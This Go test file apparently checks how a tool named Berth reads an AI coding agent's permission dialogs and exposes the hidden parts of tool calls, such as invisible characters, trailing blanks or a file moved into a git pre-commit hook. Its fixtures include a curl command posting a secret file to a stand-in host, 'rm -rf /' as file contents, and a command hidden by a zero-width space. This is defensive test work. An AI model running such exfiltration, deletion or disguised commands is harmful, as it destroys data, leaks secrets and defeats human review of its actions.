package copilot_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"berth/agent"
)

// partly is the dialog that asks before a call's own one, or in its place, and draws only paths or an address of it.
func partly(question string, drawn ...string) *agent.Reading {
	side := func(text string) string {
		return "│" + text + strings.Repeat(" ", max(0, 78-len([]rune(text)))) + "│"
	}
	rows := []string{"╭" + strings.Repeat("─", 78) + "╮", side(" Allow path access"), side(" " + strings.Repeat("─", 76)), side(" This action may read or write:"), side("")}
	rows = append(rows, side(" ╭"+strings.Repeat("─", 74)+"╮"))
	for _, text := range drawn {
		rows = append(rows, side(" │ "+text+strings.Repeat(" ", 73-len([]rune(text)))+"│"))
	}
	rows = append(rows, side(" ╰"+strings.Repeat("─", 74)+"╯"), side(""), side(" "+question), side(""), side(" ❯ 1. Yes"), side("   2. No (Esc)"))
	return shown(append(rows, side(""), side(" ↑/↓ to navigate · enter to select · esc to cancel"), "╰"+strings.Repeat("─", 78)+"╯")...)
}

const allowsPath, allowsURL = "Do you want to allow this?", "Do you want to allow this access?"

// starts is the call of a command in the log, with more fields.
func (s *talk) starts(id, command, more string) {
	s.log("tool.execution_start", fmt.Sprintf(`{"toolCallId":%q,"toolName":"bash","arguments":{"command":%q,"description":"Look"%s}}`, id, command, more))
}

// asksPart is the permission of that call, which draws what dialog says.
func (s *talk) asksPart(id, kind, command, dialog string) {
	s.log("permission.requested", fmt.Sprintf(`{"permissionRequest":{"kind":%q,"toolCallId":%q,"fullCommandText":%q,"intention":"Look","commandSegments":[%s]},"promptRequest":%s}`, kind, id, command, in("/srv/ws"), dialog))
}

// looks shows a screen for a while, and returns the prompt and whether an answer presses a key.
func (s *talk) looks(r *agent.Reading) (p *agent.Request, keyed bool) {
	for range 4 {
		s.now = s.now.Add(100 * time.Millisecond)
		s.f.Apply(agent.Fact{Kind: agent.ScreenShows, Source: agent.SourceScreen, Reading: r, Time: s.now})
	}
	if p = s.f.Status().Request; p == nil {
		return &agent.Request{}, false
	}
	d, ok := s.f.Pending(p.ID)
	return p, ok && d.Dialog != nil && d.Whole && !p.Contested && !d.Over && !d.Alike && s.f.Asks(r.Dialog, p.ID)
}

func path(paths ...string) string {
	return `{"kind":"path","accessKind":"shell","paths":["` + strings.Join(paths, `","`) + `"]}`
}

// TestPart: a dialog about paths, or about an address, draws no other part of its call. The prompt's text has the rest, with characters that
// aren't drawn as ASCII, whether the log comes before the dialog or after it. It also names the call beside it.
func TestPart(t *testing.T) {
	for _, c := range []struct {
		kind, command, more, dialog string
		drawn                       *agent.Reading
		says                        string
	}{
		{"shell", "cat /tmp/w\u200b.txt", "", path(`/tmp/w\u200b.txt`), partly(allowsPath, "/tmp/w.txt"), `command: "cat /tmp/w\u200b.txt"`},
		{"shell", "cat /tmp/w\u3164.txt", "", path(`/tmp/w\u3164.txt`), partly(allowsPath, "/tmp/w.txt"), `command: "cat /tmp/w\u3164.txt"`},
		{"shell", "rm -rf /tmp/ä\n\nls", "", path("/tmp/ä"), partly(allowsPath, "/tmp/ä"), `command: "rm -rf /tmp/ä\n\nls"`},
		{"shell", "touch /tmp/a", `,"detach":true`, path("/tmp/a"), partly(allowsPath, "/tmp/a"), "command: \"touch /tmp/a\"\ndetach: true"},
		{"url", "curl -d @secret http://x/a", "", `{"kind":"url","url":"http://x/a"}`, partly(allowsURL, "http://x/a"), `command: "curl -d @secret http://x/a"`},
	} {
		for _, first := range []string{"log", "dialog"} {
			s := newTalk(t)
			if first == "dialog" {
				s.looks(c.drawn)
			}
			s.starts("a", c.command, c.more)
			s.starts("b", "ls", "")
			s.asksPart("b", "shell", "ls", `{"kind":"commands"}`)
			s.asksPart("a", c.kind, c.command, c.dialog)
			p, keyed := s.looks(c.drawn)
			text := agent.Value(p.Text) + "\n\n"
			names := strings.Contains(text, "\n\n"+c.says+"\n\n") && strings.Contains(text, "of a call of bash, with\n{\"command\":\"ls\"")
			if !keyed || p.Title == nil || *p.Title != c.drawn.Dialog.Title || !names {
				t.Errorf("%s first, %s: a key answers %q: %v", first, c.command, agent.Value(p.Text), keyed)
			}
		}
	}
}

// TestPartOfAChange: where a change of a file is allowed already, only its path is asked for. The prompt has the change.
func TestPartOfAChange(t *testing.T) {
	s := newTalk(t)
	s.log("tool.execution_start", `{"toolCallId":"a","toolName":"create","arguments":{"path":"/tmp/new.sh","file_text":"rm -rf /"}}`)
	s.log("permission.requested", `{"permissionRequest":{"kind":"write","toolCallId":"a","intention":"Create file","fileName":"/tmp/new.sh","newFileContents":"rm -rf /"},"promptRequest":`+path("/tmp/new.sh")+`}`)
	if p, keyed := s.looks(partly(allowsPath, "/tmp/new.sh")); !keyed || !strings.HasSuffix(agent.Value(p.Text), "\n\nfile_text: \"rm -rf /\"\npath: \"/tmp/new.sh\"") {
		t.Errorf("a key answers %q: %v", agent.Value(p.Text), keyed)
	}
}

// TestPartThenWhole: once Berth's key has allowed the path, the command's own dialog comes, and its prompt has what that leaves out. However
// many commands ask for one path, the prompt of each names that command alone.
func TestPartThenWhole(t *testing.T) {
	s := newTalk(t)
	dialog := partly(allowsPath, "/tmp")
	for i := range 30 {
		id, command := fmt.Sprint(i), fmt.Sprintf("touch /tmp/%d", i)
		s.starts(id, command, `,"detach":true`)
		s.asksPart(id, "shell", command, path("/tmp"))
		p, keyed := s.looks(dialog)
		if !keyed || !strings.HasSuffix(agent.Value(p.Text), "╯\n\ncommand: \""+command+"\"\ndetach: true") {
			t.Fatalf("a key answers %q: %v", agent.Value(p.Text), keyed)
		}
		s.f.Answered(p.ID, true)
		if i%2 == 0 {
			s.looks(shown("x"))
		}
		s.log("permission.completed", `{"toolCallId":"`+id+`","requestId":"r"}`)
		s.asksPart(id, "shell", command, `{"kind":"commands"}`)
		rows := lookingAt(command)
		p, keyed = s.looks(shown(rows...))
		if !keyed || agent.Value(p.Input) != command || agent.Value(p.Text) != "Look\n\ndetach: true" {
			t.Fatalf("then a key answers %q %q: %v", agent.Value(p.Input), agent.Value(p.Text), keyed)
		}
		s.f.Answered(p.ID, true)
		s.looks(shown("x"))
		s.over(id)
	}
}

// lookingAt is the dialog of a command whose purpose is Look.
func lookingAt(text string) []string {
	rows := command(" ❯ 1. Yes", "   2. No, and tell Copilot what to do differently (Esc to stop)")
	for i := range rows {
		rows[i] = strings.NewReplacer("touch one.txt"+strings.Repeat(" ", 20), text+strings.Repeat(" ", 33-len(text)), "Run it", "Look  ").Replace(rows[i])
	}
	return rows
}

// TestPartReportedOver: another process reports the end of a call whose path is asked for, and another call for that path. The prompt names both.
func TestPartReportedOver(t *testing.T) {
	s := newTalk(t)
	dialog := partly(allowsPath, "/tmp/x")
	s.starts("a", "rm -rf /tmp/x", "")
	s.asksPart("a", "shell", "rm -rf /tmp/x", path("/tmp/x"))
	s.looks(dialog)
	s.over("a")
	s.looks(shown("x"))
	s.starts("b", "ls /tmp/x", "")
	s.asksPart("b", "shell", "ls /tmp/x", path("/tmp/x"))
	for range 6 {
		s.looks(dialog)
	}
	if p, keyed := s.looks(dialog); keyed && !strings.Contains(agent.Value(p.Text), "rm -rf") {
		t.Errorf("a key answers %q", agent.Value(p.Text))
	}
}

// replaced is in the text of a patch that moves a file.
const replaced = "\nA file that is moved replaces one that is there."

// TestMoved: the dialog of a patch that moves a file names only where it goes, and not that it replaces a file there. The log says where it was: in the permission's diff, also of
// a file that isn't UTF-8, and in the patch, when the permission is longer than a line that Berth reads.
func TestMoved(t *testing.T) {
	const patch = `*** Begin Patch\n*** Update File: sample.txt\n*** Move to: hooks/pre-commit\n@@\n-a\n+b\n*** End Patch`
	dialog := partly("Do you want to move and update /srv/ws/hooks/pre-commit?", "1 + hello")
	for asks, want := range map[bool]string{true: `"/srv/ws/sample.txt"`, false: `["sample.txt"]`} {
		for _, first := range []string{"log", "dialog"} {
			s := newTalk(t)
			if first == "dialog" {
				s.looks(dialog)
			}
			s.log("tool.execution_start", `{"toolCallId":"a","toolName":"apply_patch","arguments":"`+patch+`"}`)
			if asks {
				s.log("permission.requested", `{"permissionRequest":{"kind":"write","toolCallId":"a","intention":"Move and update file","fileName":"/srv/ws/hooks/pre-commit","diff":"\ndiff --git a/srv/ws/sample.txt b/srv/ws/hooks/pre-commit\nindex 0000000..0000000 100644\n--- a/srv/ws/sample.txt\n+++ b/srv/ws/hooks/pre-commit\n@@ -1,1 +1,1 @@\n-a\n+b\n"},"promptRequest":{"kind":"write"}}`)
			}
			if p, keyed := s.looks(dialog); !keyed || !strings.HasSuffix(agent.Value(p.Text), "\nmovedFrom: "+want+replaced) {
				t.Errorf("%s first: a key answers %q: %v", first, agent.Value(p.Text), keyed)
			}
		}
	}
}

// TestBlanksOfChange: Copilot draws a tab as blanks, and neither blanks nor a CR at a line's end. The prompt has such lines, and doesn't say
// that a new file was another one before.
func TestBlanksOfChange(t *testing.T) {
	for name, c := range map[string]struct{ call, asks, question, want string }{
		"created": {`"create","arguments":{"path":"/srv/ws/a.txt","file_text":"a \\ \n\tb\r\n"}`,
			`"intention":"Create file","fileName":"/srv/ws/a.txt","newFileContents":"a \\ \n\tb\r\n","diff":"\ndiff --git a/srv/ws/a.txt b/srv/ws/a.txt\n--- a/dev/null\n+++ b/srv/ws/a.txt\n@@ -1,0 +1,2 @@\n+a \\ \n+\tb\r\n"`,
			"Do you want to create /srv/ws/a.txt?", "file_text, line 1: ending with \" \"\nfile_text, line 2: ending with \"\\r\"\nfile_text, line 2: beginning with \"\\t\""},
		"edited": {`"edit","arguments":{"path":"/srv/ws/a.txt","old_str":"a","new_str":"\ta"}`,
			`"intention":"Edit file","fileName":"/srv/ws/a.txt","diff":"\ndiff --git a/srv/ws/a.txt b/srv/ws/a.txt\n--- a/srv/ws/a.txt\n+++ b/srv/ws/a.txt\n@@ -1,1 +1,1 @@\n-a\n+\ta\n"`,
			"Do you want to edit /srv/ws/a.txt?", `diff, line 7: beginning with "\t"`},
		"edited without": {`"edit","arguments":{"path":"/srv/ws/a.txt","old_str":"\ta","new_str":" a"}`,
			`"intention":"Edit file","fileName":"/srv/ws/a.txt","diff":"\ndiff --git a/srv/ws/a.txt b/srv/ws/a.txt\n--- a/srv/ws/a.txt\n+++ b/srv/ws/a.txt\n@@ -1,1 +1,1 @@\n-\ta\n+ a\n"`,
			"Do you want to edit /srv/ws/a.txt?", ""},
		"a script": {`"edit","arguments":{"path":"/srv/ws/run","old_str":"a","new_str":"exit"}`,
			`"intention":"Edit file","fileName":"/srv/ws/run","diff":"\ndiff --git a/srv/ws/run b/srv/ws/run\n--- a/srv/ws/run\n+++ b/srv/ws/run\n@@ -1,1 +1,1 @@\n-a\n+exit\n"`,
			"Do you want to edit /srv/ws/run?", "Each line may get a CR, if the file's lines have one."},
	} {
		s := newTalk(t)
		s.log("tool.execution_start", `{"toolCallId":"a","toolName":`+c.call+`}`)
		s.log("permission.requested", `{"permissionRequest":{"kind":"write","toolCallId":"a",`+c.asks+`},"promptRequest":{"kind":"write"}}`)
		p, keyed := s.looks(partly(c.question, "1 + hello"))
		if _, undrawn, _ := strings.Cut(agent.Value(p.Text), "╯\n\n"); !keyed || undrawn != c.want {
			t.Errorf("%s: a key answers %q: %v", name, agent.Value(p.Text), keyed)
		}
	}
}

// TestPartWithoutItsCall: a process of the session can keep the log from Berth. A dialog about paths, or about an address, draws no command, so
// its prompt is a part until the log has what it asks. A call that only has the path in it, or that was answered, doesn't say that.
func TestPartWithoutItsCall(t *testing.T) {
	for question, drawn := range map[string]string{allowsPath: "/tmp/a", allowsURL: "http://x/a"} {
		s, dialog := newTalk(t), partly(question, drawn)
		is := func(when string, part bool) (p *agent.Request) {
			t.Helper()
			p, keyed := s.looks(dialog)
			if !keyed || p.InPart() != part || part != (agent.Value(p.Input) == drawn) {
				t.Errorf("%s: it is a part %v of %q, and a key answers it: %v", when, p.InPart(), agent.Value(p.Input), keyed)
			}
			return p
		}
		is("alone", true)
		s.starts("a", "cat "+drawn+"; touch evil\u200b", "")
		is("with its call", true)
		s.asksPart("a", "shell", "cat "+drawn+"; touch evil\u200b", `{"kind":"`+map[bool]string{true: "path", false: "url"}[question == allowsPath]+`","paths":["`+drawn+`"],"url":"`+drawn+`"}`)
		is("with its permission", false)
		s.looks(shown("x"))
		p := is("covered for a moment", false)
		s.f.Answered(p.ID, true)
		for range 3 {
			s.looks(shown("╻"+strings.Repeat("▄", 79), "┃", "╹"+strings.Repeat("▀", 79), " ◉ Working · esc esc interrupt"))
		}
		is("of the next call", true)
	}
}

// TestSkippedLine: a line of the log that is too long to be read may have had the call, and no hook has what the dialog leaves out. So the
// prompt says that, and is a part, until Copilot rests.
func TestSkippedLine(t *testing.T) {
	for name, dialog := range map[string]*agent.Reading{"a path": partly(allowsPath, "/tmp/a"), "a patch": partly("Do you want to update /srv/ws/a?", "1 + hello")} {
		for _, first := range []string{"log", "dialog"} {
			s := newTalk(t)
			if first == "dialog" {
				s.looks(dialog)
			}
			s.f.Skipped(s.now)
			if name == "a path" {
				s.starts("a", "cat /tmp/a", "")
				s.asksPart("a", "shell", "cat /tmp/a", path("/tmp/a"))
			}
			p, keyed := s.looks(dialog)
			if !keyed || !p.InPart() || !strings.Contains(agent.Value(p.Text), "that Berth had no room to keep") {
				t.Errorf("%s, %s first: it is a part: %v, a key answers %q: %v", name, first, p.InPart(), agent.Value(p.Text), keyed)
			}
			if again, _ := s.looks(dialog); again.ID != p.ID {
				t.Errorf("%s, %s first: it has the ids %s and %s", name, first, p.ID, again.ID)
			}
		}
	}
}

// TestPatchWithoutItsPermission: what a patch's dialog doesn't draw is in the prompt's text, also when its permission is too long for a line.
func TestPatchWithoutItsPermission(t *testing.T) {
	for patch, want := range map[string]string{
		`*** Update File: a\n*** Move to: b\n*** Update File: c\n*** Move to: d`: "\n\n" + `movedFrom: ["a","c"]` + replaced + "\n\nThe dialog may be that of a call of apply_patch, with\n" + `{"call":"*** Begin Patch\n*** Update File: a\n*** Move to: b\n*** Update File: c\n*** Move to: d\n*** End Patch","movedFrom":["a","c"]}`,
		`*** Update File: a\n@@\n-a\n+a\u200bb`:                                  "\n\n" + `call: "+a\u200bb"`,
		`*** Update File: a\n@@\n-a\n+ab`:                                        "╯",
	} {
		s := newTalk(t)
		s.log("tool.execution_start", `{"toolCallId":"a","toolName":"apply_patch","arguments":"*** Begin Patch\n`+patch+`\n*** End Patch"}`)
		if p, keyed := s.looks(partly("Do you want to update /srv/ws/a?", "1 + hello")); !keyed || !strings.HasSuffix(agent.Value(p.Text), want) {
			t.Errorf("%s: a key answers %q: %v", patch, agent.Value(p.Text), keyed)
		}
	}
}

// TestCallBelowAPart: a dialog about a path, or about an address, isn't that of a call whose permission doesn't have it. Its prompt names such a
// call, whatever the model has written into that one's input, and not the call whose permission has it.
func TestCallBelowAPart(t *testing.T) {
	const server = `{"permissionRequest":{"kind":"mcp","toolCallId":"a","serverName":"lab","toolName":"lab-delete","toolTitle":"delete","args":{"x":"y"}}}`
	for _, c := range []struct{ tool, input, asks string }{
		{"lab-delete", `{"x":"y"}`, ""},
		{"lab-delete", `{"x":"y"}`, server},
		{"lab-delete", `{"x":"y\u200b"}`, ""},
		{"lab-delete", `{"kind":"path","paths":["/tmp/a"],"promptRequest":{"kind":"path","paths":["/tmp/a"]},"x":"y"}`, ""},
		{"lab-delete", `{"promptRequest":{"kind":"url","url":"http://x/a"},"x":"y"}`, ""},
		{"web_fetch", `{"url":"http://other/a"}`, ""},
		{"web_fetch", `{"url":"http://other/a"}`, `{"permissionRequest":{"kind":"url","toolCallId":"a","url":"http://other/a"},"promptRequest":{"kind":"url","url":"http://other/a"}}`},
		{"view", `{"path":"/etc/other"}`, ""},
		{"write_bash", `{"input":"rm x"}`, ""},
		{"apply_patch", `"*** Begin Patch\n*** Update File: b\n*** End Patch"`, ""},
	} {
		for question, shows := range map[string]string{allowsPath: "/tmp/a", allowsURL: "http://x/a"} {
			for _, own := range []bool{false, true} {
				s, r := newTalk(t), partly(question, shows)
				if own {
					s.starts("b", "cat "+shows, "")
					s.asksPart("b", "shell", "cat "+shows, `{"kind":"`+map[bool]string{true: "path", false: "url"}[question == allowsPath]+`","paths":["`+shows+`"],"url":"`+shows+`"}`)
				}
				s.log("tool.execution_start", `{"toolCallId":"a","toolName":"`+c.tool+`","arguments":`+c.input+`}`)
				if c.asks != "" {
					s.log("permission.requested", c.asks)
				}
				for range 12 {
					s.looks(r)
				}
				p, keyed := s.looks(r)
				text := agent.Value(p.Text)
				if keyed && !strings.Contains(text, "of a call of "+c.tool+", with\n") || strings.Contains(text, "of a call of bash") || own && !keyed && !strings.Contains(c.input, "promptRequest") {
					t.Errorf("%q over %s of %s, asked %q, with its own call %v: keys %v at %q", question, c.tool, c.input, c.asks, own, keyed, text)
				}
			}
		}
	}
}

// TestPartOfAnother: the log has what the dialog draws of a permission for neither a command nor a change, such as an address to fetch. The
// dialog is that permission's, and its call isn't named.
func TestPartOfAnother(t *testing.T) {
	for _, first := range []string{"log", "dialog"} {
		s, r := newTalk(t), partly(allowsURL, "http://x/a")
		if first == "dialog" {
			s.looks(r)
		}
		s.log("tool.execution_start", `{"toolCallId":"a","toolName":"web_fetch","arguments":{"url":"http://x/a","raw":true}}`)
		s.log("permission.requested", `{"permissionRequest":{"kind":"url","toolCallId":"a","url":"http://x/a"},"promptRequest":{"kind":"url","url":"http://x/a"}}`)
		p, keyed := s.looks(r)
		if text := agent.Value(p.Text); !keyed || p.InPart() || !strings.HasSuffix(text, "raw: true\nurl: \"http://x/a\"") {
			t.Errorf("%s first: a key answers %q: %v, a part: %v", first, text, keyed, p.InPart())
		}
	}
}
